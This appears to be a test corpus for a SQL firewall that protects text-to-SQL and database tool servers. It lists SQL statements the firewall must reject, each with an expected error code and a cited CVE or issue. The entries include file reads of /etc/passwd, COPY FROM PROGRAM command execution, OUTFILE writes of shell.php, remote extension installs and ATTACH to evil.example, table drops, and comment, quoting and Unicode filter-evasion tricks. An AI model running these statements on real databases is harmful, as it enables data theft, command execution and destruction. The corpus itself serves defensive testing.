# Statements that the firewall must refuse, each with where the idea came from and the code that it
# must be refused with. The form is explained in tests/unit/sql_corpus.h. A CVE number stands only
# where published advisories were found that name the product and the effect written beside it; what
# comes after "here" is our own idea and not the advisory's.

# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
= statement_not_allowed
DROP TABLE customers

# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
= statement_not_allowed
DELETE FROM orders

# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
= statement_not_allowed
INSERT INTO staff VALUES (1, 'x', 'y', 'z', 1, NULL, NULL, 1)

# LlamaIndex, CVE-2024-23751 (its issue 9957): a question in plain English makes text-to-SQL drop tables
= statement_not_allowed
UPDATE staff SET salary = 1000000 WHERE full_name = 'Ana'

# LangChain, CVE-2023-36189: SQL injection through SQLDatabaseChain; here a second statement
= many_statements
SELECT * FROM customers; DROP TABLE customers

# LangChain, CVE-2023-36189: SQL injection through SQLDatabaseChain; here a second statement
= many_statements
SELECT name FROM customers; SELECT full_name, salary FROM staff

# Vanna 0.3.4, CVE-2024-5753: SQL with pg_read_file() reads files; here behind a semicolon
= many_statements
SELECT name FROM customers WHERE city = 'Porto'; SELECT pg_read_file('/etc/passwd')

# A semicolon between the model's SQL and the asker's
= empty
~ another spelling of what is allowed
;SELECT 1

# A semicolon between the model's SQL and the asker's
= many_statements
~ another spelling of what is allowed
SELECT 1;;

# A semicolon between the model's SQL and the asker's
= empty
; 

# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
= statement_not_allowed
CREATE TABLE stolen AS SELECT * FROM staff

# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
= statement_not_allowed
CREATE OR REPLACE VIEW customers AS SELECT * FROM staff

# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
= statement_not_allowed
ALTER TABLE staff ADD COLUMN note VARCHAR

# Vanna up to 2.0.2, CVE-2026-4230: SQL injection through update_sql; here statements of the caller's own
= statement_not_allowed
TRUNCATE orders

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= statement_not_allowed
COPY (SELECT * FROM customers) TO '/tmp/stolen.csv'

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= statement_not_allowed
COPY customers FROM '/etc/passwd'

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= statement_not_allowed
COPY (SELECT 'import os') TO '/usr/lib/python3/evil.py' (FORMAT csv, HEADER false)

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= statement_not_allowed
EXPORT DATABASE '/tmp/all'

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= statement_not_allowed
IMPORT DATABASE '/tmp/all'

# DB-GPT, CVE-2024-10835 and CVE-2024-10901: any SQL is run by the editor's API, files are written by DuckDB
= function_reads_files
SELECT * FROM read_csv_auto('/etc/passwd')

# DB-GPT 0.7.0 (pull 2650): case and blanks against a list of forbidden words
= function_reads_files
SeLeCt * FrOm ReAd_CsV('/etc/passwd')

# DB-GPT 0.7.0 (pull 2650): case and blanks against a list of forbidden words
= function_reads_files
SELECT * FROM   read_text   (  '/etc/passwd'  )

# DB-GPT 0.7.0 (pull 2650): case and blanks against a list of forbidden words
= function_reads_files
SELECT * FROM "read_text"('/etc/passwd')

# DB-GPT 0.7.0 (pull 2650): case and blanks against a list of forbidden words
= function_reads_files
SELECT * FROM main.read_text('/etc/passwd')

# DB-GPT 0.7.0 (pull 2650): case and blanks against a list of forbidden words
= function_reads_files
SELECT * FROM system.main.read_text('/etc/passwd')

# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
= statement_not_allowed
INSTALL shellfs FROM community

# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
= statement_not_allowed
LOAD shellfs

# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
= function_reads_files
SELECT * FROM read_csv('cat /etc/passwd |')

# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
= statement_not_allowed
INSTALL 'http://evil.example/x.duckdb_extension'

# Grafana SQL expressions, CVE-2024-9264: commands run and files read through DuckDB
= statement_not_allowed
FORCE INSTALL httpfs

# DuckDB before 1.1.0, CVE-2024-41672: sniff_csv reads files although external access is off
= function_reads_files
SELECT * FROM sniff_csv('/etc/passwd')

# DuckDB before 1.1.0, CVE-2024-41672: sniff_csv reads files although external access is off
= function_reads_files
SELECT Prompt FROM sniff_csv('/etc/hosts')

# DuckDB up to 0.9.2, CVE-2024-22682 (disputed by DuckDB): a malicious extension is brought in
= statement_not_allowed
LOAD '/tmp/evil.duckdb_extension'

# LlamaIndex DuckDBVectorStore, CVE-2025-1750: SQL in ref_doc_id reads and writes files
= comment_not_allowed
SELECT * FROM customers WHERE name = 'x'; COPY customers TO '/tmp/x'; --'

# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
= function_reads_files
SELECT lo_import('/etc/passwd')

# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
= function_reads_files
SELECT lo_export(16384, '/tmp/evil.so')

# LlamaIndex FinanceChatLlamaPack, CVE-2024-12909: code is run by means of PostgreSQL's large objects
= function_reads_files
SELECT lo_from_bytea(0, 'x')

# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
= statement_not_allowed
ATTACH DATABASE '/var/www/shell.php' AS shell

# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
= statement_not_allowed
ATTACH 'postgres://evil.example/db' AS pg (TYPE postgres)

# LlamaIndex JSONalyzeQueryEngine, CVE-2024-12911: SQL injection makes files; here by ATTACH
= statement_not_allowed
DETACH customers

# Aix-DB (issue 203) and PostgreSQL 9.3 to 11.2, CVE-2019-9193 (disputed): a program as the source of COPY
= statement_not_allowed
COPY staff FROM PROGRAM 'id'

# SQLBot (issue 841): the question rewrites the prompt
= many_statements
SELECT 1; CREATE TABLE cmd (out TEXT); COPY cmd FROM PROGRAM 'id'

# Reference Postgres MCP server: the read-only transaction is left by COMMIT
= statement_not_allowed
COMMIT; DROP SCHEMA public CASCADE

# Reference Postgres MCP server: the read-only transaction is left by COMMIT
= statement_not_allowed
BEGIN

# Reference Postgres MCP server: the read-only transaction is left by COMMIT
= statement_not_allowed
ROLLBACK

# Reference Postgres MCP server: the read-only transaction is left by COMMIT
= statement_not_allowed
START TRANSACTION READ WRITE

# Reference Postgres MCP server: the read-only transaction is left by COMMIT
= statement_not_allowed
SAVEPOINT a

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (SELECT 1) DELETE FROM customers

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (SELECT 1) INSERT INTO customers SELECT * FROM x

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (SELECT 1) UPDATE staff SET salary = 0

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (INSERT INTO customers VALUES (1) RETURNING *) SELECT * FROM x

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (UPDATE staff SET salary = 0 RETURNING *) SELECT * FROM x

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS MATERIALIZED (MERGE INTO staff USING orders ON true) SELECT * FROM x

# sqlite-explorer MCP server (issue 8): WITH in front of a write
= statement_not_allowed
WITH x AS (COPY customers TO 'f') SELECT * FROM x

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= construct_not_allowed
SELECT 'x' INTO OUTFILE '/var/www/html/shell.php'

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= construct_not_allowed
SELECT name FROM customers INTO DUMPFILE '/tmp/x'

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= construct_not_allowed
SELECT name INTO OUTFILE '/tmp/x' FROM customers

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= construct_not_allowed
SELECT name INTO stolen FROM customers

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= construct_not_allowed
SELECT name INTO TEMP stolen FROM customers

# mcp-server-mysql (issue 128) and mcp-server-mariadb (issue 22): SELECT that writes files
= function_reads_files
SELECT LOAD_FILE('/etc/passwd')

# AWS MySQL MCP server (pull 4044): comments as blanks, comments that are executed
= comment_not_allowed
SELECT name INTO/**/OUTFILE '/tmp/x' FROM customers

# AWS MySQL MCP server (pull 4044): comments as blanks, comments that are executed
= comment_not_allowed
SELECT /*!50000 name */ FROM customers

# AWS MySQL MCP server (pull 4044): comments as blanks, comments that are executed
= comment_not_allowed
~ only the text shows it
SELECT 1 /*! UNION SELECT salary FROM staff */

# AWS MySQL MCP server (pull 4044): comments as blanks, comments that are executed
= comment_not_allowed
~ only the text shows it
SELECT/**/name/**/FROM/**/staff

# AWS MySQL MCP server (pull 4044): comments as blanks, comments that are executed
= comment_not_allowed
/* only */ DROP TABLE customers

# pg-mcp-server (issue 3): a comment before the first word
= comment_not_allowed
-- a harmless question\x0aDELETE FROM customers

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT name FROM customers -- the rest

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT name FROM customers --

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT 1 --1

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT 1--1

# Comment tricks: where does it end?
= comment_not_allowed
SELECT 1 # comment

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT /* outer /* inner */ still a comment? */ 1

# Comment tricks: where does it end?
= comment_not_allowed
SELECT /* never closed

# Comment tricks: where does it end?
= syntax
SELECT 1 */ + 1

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT '/*' /* '*/ FROM customers

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT name --\x0d, salary FROM staff

# Comment tricks: where does it end?
= comment_not_allowed
~ only the text shows it
SELECT 1 /*+ hint */

# Quote tricks: where does the string end?
= string_not_closed
SELECT 'never closed FROM customers

# Quote tricks: where does the string end?
= identifier_wrong
SELECT "never closed FROM customers

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT 'it\'s' FROM customers

# Quote tricks: where does the string end?
= syntax
SELECT 'a' 'b'

# Quote tricks: where does the string end?
= syntax
~ another spelling of what is allowed
SELECT 'a'\x0a'b' FROM customers

# Quote tricks: where does the string end?
= string_form_not_allowed
~ only the text shows it
SELECT E'\\x41' FROM customers

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT e'it\\'s' FROM customers

# Quote tricks: where does the string end?
= string_form_not_allowed
~ only the text shows it
SELECT X'41'

# Quote tricks: where does the string end?
= string_form_not_allowed
~ only the text shows it
SELECT B'1010'

# Quote tricks: where does the string end?
= string_form_not_allowed
~ only the text shows it
SELECT N'text'

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT U&'\\0041'

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT U&"\\0041" FROM customers

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT _utf8'text'

# Quote tricks: where does the string end?
= string_form_not_allowed
SELECT r'raw'

# Quote tricks: where does the string end?
= string_form_not_allowed
~ only the text shows it
SELECT $$text$$

# Quote tricks: where does the string end?
= parameter_not_allowed
~ another spelling of what is allowed
SELECT $tag$ DROP TABLE x $tag$

# Quote tricks: where does the string end?
= character_not_allowed
SELECT `name` FROM `customers`

# Quote tricks: where does the string end?
= character_not_allowed
SELECT [name] FROM [customers]

# Quote tricks: where does the string end?
= identifier_wrong
SELECT "" FROM customers

# Quote tricks: where does the string end?
= identifier_wrong
~ only the text shows it
SELECT "\R(a,300\)" FROM customers

# Quote tricks: where does the string end?
= syntax
~ another spelling of what is allowed
SELECT 'a' AS 'b' FROM customers

# Quote tricks: where does the string end?
= string_not_closed
SELECT ''' FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
SELECT name FROM customers；DROP TABLE customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
SELECT name FROM customers WHERE city ＝ 'Porto'

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
ＳＥＬＥＣＴ 1

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT ｓａｌａｒｙ FROM staff

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT ѕalary FROM staff

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT sаlary FROM staff

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT ‘name’ FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT “name” FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT name FROM customers WHERE name = ʼxʼ

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT ʺnameʺ FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT ﬁrst FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT x² FROM customers

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
SELECT 1 ⁄ 2

# Unicode: characters that look like others (full-width forms, foreign letters, curly quotes)
= look_alike
~ only the text shows it
SELECT １ + １

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT\xc2\xa0name FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT\xe3\x80\x80name FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
SEL\xe2\x80\x8bECT name FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT na\xe2\x80\x8dme FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
\xef\xbb\xbfSELECT name FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT name \xe2\x80\xae FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT "na\xe2\x80\x8bme" FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT "salary\xc2\xa0" FROM staff

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
SELECT name FROM customers\xe2\x80\xa8

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT name\xe1\xa0\x8e FROM customers

# Unicode: characters that hide (zero-width, non-breaking and other blanks, direction marks)
= look_alike
~ only the text shows it
SELECT name\xc2\xad FROM customers

# Bytes that are no text
= not_utf8
SELECT \xff FROM customers

# Bytes that are no text
= not_utf8
SELECT '\xc0\xaf' FROM customers

# Bytes that are no text
= not_utf8
SELECT '\xed\xa0\x80'

# Bytes that are no text
= not_utf8
SELECT 'a\xe2\x82'

# Bytes that are no text
= control_character
SELECT 'a\x00b' FROM customers

# Bytes that are no text
= control_character
~ only the text shows it
SELECT name\x00 FROM customers

# Bytes that are no text
= control_character
SELECT\x0bname FROM customers

# Bytes that are no text
= control_character
~ only the text shows it
SELECT 'a\x1bb'

# Bytes that are no text
= control_character
SELECT 1\x08

# Bytes that are no text
= control_character
~ only the text shows it
SELECT\x0c1

# Bytes that are no text
= control_character
~ only the text shows it
SELECT '\x7f'

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM read_parquet('s3://bucket/x.parquet')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM read_json('/etc/x.json')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM read_json_auto('x.json')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM read_ndjson_objects('x')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT content FROM read_blob('/proc/self/environ')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM read_duckdb('/data/other.duckdb')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM glob('/*')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM parquet_metadata('x.parquet')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM parquet_schema('x.parquet')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM parquet_scan('x.parquet')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM arrow_scan(1, 2, 3)

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM customers, read_text('/etc/passwd')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM customers JOIN read_text('/etc/passwd') t ON true

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM customers WHERE name IN (SELECT content FROM read_text('/etc/passwd'))

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT (SELECT content FROM read_text('/etc/passwd'))

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
WITH x AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM x

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT * FROM customers UNION ALL SELECT content FROM read_text('/etc/passwd')

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT name FROM customers ORDER BY (SELECT content FROM read_text('/etc/passwd'))

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT name FROM customers GROUP BY name HAVING count(*) > (SELECT count(*) FROM read_text('/x'))

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT CASE WHEN EXISTS (SELECT 1 FROM glob('/root/*')) THEN 1 END

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT sum(price) FILTER (WHERE EXISTS (SELECT 1 FROM glob('/root/*'))) FROM products

# DuckDB's functions that read files (facts: all are table functions)
= function_reads_files
SELECT rank() OVER (ORDER BY (SELECT size FROM read_blob('/etc/passwd'))) FROM staff

# DuckDB: a file's name where a table's should be
= file_not_allowed
SELECT * FROM '/etc/passwd'

# DuckDB: a file's name where a table's should be
= file_not_allowed
SELECT * FROM 'x.csv'

# DuckDB: a file's name where a table's should be
= table_not_allowed
SELECT * FROM "x.csv"

# DuckDB: a file's name where a table's should be
= table_not_allowed
SELECT * FROM "/data/other.parquet"

# DuckDB: a file's name where a table's should be
= file_not_allowed
SELECT * FROM 'https://evil.example/x.parquet'

# DuckDB: a file's name where a table's should be
= file_not_allowed
SELECT * FROM customers, 'x.json' AS x

# DuckDB's functions that show or set the system
= function_reads_system
SELECT current_setting('secret_directory')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT getvariable('x')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT getenv('HOME')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM duckdb_settings()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM duckdb_secrets()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM duckdb_tables()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM duckdb_logs()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM which_secret('s3://x', 's3')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM pragma_database_size()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT * FROM pragma_table_info('staff')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT current_user

# DuckDB's functions that show or set the system
= function_reads_system
SELECT session_user

# DuckDB's functions that show or set the system
= function_reads_system
SELECT "current_user"

# DuckDB's functions that show or set the system
= function_reads_system
SELECT current_schema

# DuckDB's functions that show or set the system
= function_reads_system
SELECT current_database()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT version()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT txid_current()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT current_query()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT write_log('x')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT sleep_ms(100000)

# DuckDB's functions that show or set the system
= function_reads_system
SELECT nextval('s')

# DuckDB's functions that show or set the system
= function_reads_system
SELECT setseed(0.5)

# DuckDB's functions that show or set the system
= function_reads_system
SELECT inet_server_addr()

# DuckDB's functions that show or set the system
= function_reads_system
SELECT has_table_privilege('staff', 'select')

# DuckDB: SQL inside of strings
= function_reads_system
SELECT * FROM query('SELECT * FROM staff')

# DuckDB: SQL inside of strings
= function_reads_system
SELECT * FROM query_table('staff')

# DuckDB: SQL inside of strings
= function_reads_system
SELECT * FROM json_execute_serialized_sql('{}')

# DuckDB: SQL inside of strings
= function_reads_system
SELECT json_serialize_sql('select 1')

# DuckDB: SQL inside of strings
= function_reads_system
SELECT json_deserialize_sql('{}')

# DuckDB: SQL inside of strings
= table_function_not_allowed
SELECT * FROM sql_auto_complete('SEL')

# DuckDB: SQL inside of strings
= table_function_not_allowed
SELECT * FROM check_peg_parser('x')

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
SHOW TABLES

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
SHOW ALL TABLES

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
DESCRIBE staff

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
DESCRIBE SELECT 1

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
SUMMARIZE staff

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
PRAGMA show_tables

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
PRAGMA database_list

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
PRAGMA version

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
EXPLAIN SELECT 1

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
EXPLAIN ANALYZE SELECT * FROM customers

# Statements that show the schema, and that DuckDB counts as SELECT
= construct_not_allowed
SELECT * FROM (DESCRIBE staff)

# Statements that show the schema, and that DuckDB counts as SELECT
= construct_not_allowed
SELECT * FROM (SHOW TABLES)

# Statements that show the schema, and that DuckDB counts as SELECT
= construct_not_allowed
SELECT * FROM (SUMMARIZE staff)

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
TABLE staff

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
FROM staff

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
FROM staff SELECT salary

# Statements that show the schema, and that DuckDB counts as SELECT
= syntax
~ another spelling of what is allowed
SELECT * FROM (FROM staff)

# Statements that show the schema, and that DuckDB counts as SELECT
= construct_not_allowed
~ another spelling of what is allowed
SELECT * FROM (TABLE staff)

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
VALUES (1), (2)

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
WITH x AS (SELECT 1) FROM x

# Statements that show the schema, and that DuckDB counts as SELECT
= statement_not_allowed
~ another spelling of what is allowed
WITH x AS (TABLE staff) SELECT * FROM x

# Statements that change the session
= statement_not_allowed
SET memory_limit = '100GB'

# Statements that change the session
= statement_not_allowed
SET enable_external_access = true

# Statements that change the session
= statement_not_allowed
SET VARIABLE x = 1

# Statements that change the session
= statement_not_allowed
SET search_path = 'other'

# Statements that change the session
= statement_not_allowed
RESET ALL

# Statements that change the session
= statement_not_allowed
USE other

# Statements that change the session
= statement_not_allowed
CALL pragma_version()

# Statements that change the session
= statement_not_allowed
CALL enable_logging()

# Statements that change the session
= statement_not_allowed
PREPARE p AS SELECT 1

# Statements that change the session
= statement_not_allowed
EXECUTE p

# Statements that change the session
= statement_not_allowed
DEALLOCATE p

# Statements that change the session
= statement_not_allowed
CHECKPOINT

# Statements that change the session
= statement_not_allowed
VACUUM

# Statements that change the session
= statement_not_allowed
ANALYZE

# Statements that change the session
= statement_not_allowed
CREATE MACRO m(x) AS x

# Statements that change the session
= statement_not_allowed
CREATE SECRET (TYPE s3)

# Statements that change the session
= statement_not_allowed
CREATE TEMP TABLE t AS SELECT 1

# Statements that change the session
= statement_not_allowed
COMMENT ON TABLE staff IS 'x'

# Statements that change the session
= statement_not_allowed
GRANT ALL ON staff TO public

# Statements that change the session
= statement_not_allowed
LOCK TABLE staff

# Statements that change the session
= statement_not_allowed
REINDEX

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM information_schema.tables

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM information_schema.columns WHERE table_name = 'staff'

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM pg_catalog.pg_class

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM pg_tables

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM pg_settings

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM pg_shadow

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT name, sql FROM sqlite_master

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM sqlite_schema

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM duckdb_columns

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM mysql.user

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM sys.tables

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM main.sqlite_master

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM INFORMATION_SCHEMA . TABLES

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM "information_schema"."tables"

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM system.runtime.queries

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM memory.main.staff

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
~ another spelling of what is allowed
SELECT * FROM main.staff

# Catalogs: information_schema, pg_catalog, SQLite's and others
= table_not_allowed
SELECT * FROM "main.staff"

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM temp.customers

# Catalogs: information_schema, pg_catalog, SQLite's and others
= schema_not_allowed
SELECT * FROM other.customers

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM payroll

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers, payroll

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers JOIN payroll USING (customer_id)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers LEFT JOIN payroll p ON p.id = customers.customer_id

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM (customers CROSS JOIN payroll)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM (SELECT * FROM payroll) p

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers WHERE customer_id IN (SELECT id FROM payroll)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers WHERE customer_id = ANY (SELECT id FROM payroll)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM payroll)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT (SELECT max(pay) FROM payroll) FROM customers

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM customers UNION SELECT * FROM payroll

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
(SELECT 1) INTERSECT (SELECT pay FROM payroll)

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
WITH x AS (SELECT * FROM payroll) SELECT 1

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT * FROM (WITH payroll AS (SELECT 1) SELECT * FROM payroll) x, payroll

# Tables that are not of the policy, in every place where a table can stand
= table_not_allowed
SELECT name FROM customers ORDER BY (SELECT pay FROM payroll LIMIT 1)

